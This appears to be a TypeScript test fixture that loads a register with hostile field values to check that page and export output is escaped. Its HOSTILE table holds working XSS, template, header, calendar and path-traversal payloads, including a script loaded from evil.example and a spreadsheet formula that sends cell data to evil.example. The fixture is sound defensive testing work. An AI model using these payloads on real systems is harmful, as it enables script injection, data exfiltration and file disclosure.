import type { Analysis } from '../../../src/model/analysis.ts';
import type { RegisterEvent } from '../../../src/register/events.ts';
import type { Store } from '../../../src/store/store.ts';
import { analysisOf } from '../../register/analyses.ts';

/*
 * A register in which every field that others write wants to do harm. Tests of pages and of exports take it:
 *
 *   const house = await houseOf({ access: 'own' });
 *   await addHostile(house.store);
 *   await house.search.refresh('2026-03-02');
 *   expect(harmsIn(await page.text())).toEqual([]);
 */

/** What is tried, each by what it abuses. */
export const HOSTILE = {
  script: '"><script>hostile(1)</script>',
  image: "'><img src=x onerror=hostile(2)>",
  svg: '<svg/onload=hostile(3)><hostile-tag>',
  closing: '</title></textarea></script><script src=//evil.example/x.js></script>',
  comment: '<!--><script>hostile(4)</script>]]>',
  entity: '&lt;script&gt;hostile(5)&lt;/script&gt;&#x3c;hostile-tag&#x3e;',
  template: '{{constructor.constructor("hostile(6)")()}} <%= hostile(7) %>',
  attribute: '" onmouseover="hostile(8)" style="position:fixed" x="',
  address: 'javascript:hostile(9)//',
  formula: '=HYPERLINK("http://evil.example?"&A1;"total")',
  header: 'x\r\nX-Hostile: 1\r\n\r\n<script>hostile(10)</script>',
  turned: '\u202egpj.exe\u2066',
  unseen: 'a\u0000b\u0008\u001b[31m\u2028c',
  markdown: '[click](javascript:hostile(11)) ![x](//evil.example/x.png) <details open ontoggle=hostile(12)>',
  calendar: 'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:http://evil.example',
  separators: '*/ ;,\\ -- \' " ` %0d%0a %00 ../../etc/passwd',
} as const;

const ALL = Object.values(HOSTILE);

/** Sentences of a document, each with one of them in its words. */
const sentence = (words: string, at: number): string =>
  `They will do ${words.replace(/[.\n]/g, ' ')} thing ${at}`;
const SENTENCES = ALL.map(sentence);
const REST = `\n\nAbout EUR 5 million ${HOSTILE.script} was paid\n\nNo timetable ${HOSTILE.image} was set out\n\nWatch the summit ${HOSTILE.svg}\n\nfirms ${HOSTILE.attribute} should prepare\n\nby the end of ${HOSTILE.closing}`;
const TEXT = `${SENTENCES.join('. ')}.${REST}`;

/** Two documents, one by each kind of address that wants to do harm. */
export const hostile = (): readonly Analysis[] => [
  written(`doc:${HOSTILE.script}`, HOSTILE.address, HOSTILE.script),
  written(HOSTILE.address, `https://evil.example/"${HOSTILE.attribute}`, HOSTILE.formula),
  written(
    'https://example.org/a?b=<c>#d/../..',
    'data:text/html,<script>hostile(13)</script>',
    HOSTILE.header,
  ),
];

function written(id: string, uri: string, title: string): Analysis {
  return analysisOf(TEXT, {
    head: {
      ...{
        id,
        uri,
        title: `${title}${HOSTILE.turned}`,
        publisher: HOSTILE.image,
        language: 'en"><hostile-tag>',
      },
    },
    commitments: SENTENCES.map((words, at) => ({
      action: words.slice('They '.length),
      actors: [{ name: ALL[at]!, id: HOSTILE.attribute }, HOSTILE.header],
      instruments: [ALL[at]!, HOSTILE.svg],
      conditions: [words.slice(-8)],
      attribution: ALL[at]!,
      ...(at === 0 && { deadline: [`by the end of ${HOSTILE.closing}`, '../2026-12-31'] as const }),
    })),
    figures: [[`EUR 5 million ${HOSTILE.script}`, 5_000_000, HOSTILE.attribute]],
    silences: [`No timetable ${HOSTILE.image} was set out`],
    watchpoints: [[`the summit ${HOSTILE.svg}`, '2026-06']],
    advisories: [[`firms ${HOSTILE.attribute} should prepare`, HOSTILE.script]],
    events: [[`About EUR 5 million ${HOSTILE.script} was paid`, null]],
  });
}

/** What people say of it, with names and reasons that want to do harm. */
const saidOf = ({ document: { id: document }, commitments }: Analysis): readonly RegisterEvent[] =>
  commitments.flatMap(({ id: item }, at): readonly RegisterEvent[] => [
    { kind: 'accepted', document, item, reason: ALL[at]! },
    {
      ...{ kind: 'edited', document, item, reason: ALL[at]! },
      set: { actors: [{ name: ALL[at]!, id: null }], instruments: [{ name: ALL[at]!, id: HOSTILE.address }] },
    },
    { kind: 'judged', document, item, verdict: 'missed', evidence: null, reason: ALL[at]! },
  ]);

/** Puts it all into a register. */
export async function addHostile(store: Store): Promise<readonly Analysis[]> {
  const analyses = hostile();
  await store.add(analyses, { at: '2026-01-02T10:00:00Z', rules: HOSTILE.script });
  for (const [at, words] of ALL.entries())
    await store.append(
      analyses.flatMap(saidOf).filter((_, n) => n % ALL.length === at),
      {
        at: '2026-01-03T10:00:00Z',
        by: { kind: 'person', name: words },
      },
    );
  await store.following.addSource(
    'hostile',
    {
      ...{ kind: 'feed', title: HOSTILE.script, address: HOSTILE.address },
      publisher: HOSTILE.image,
      allow: [],
    },
    '2026-01-02T10:00:00Z',
  );
  return analyses;
}
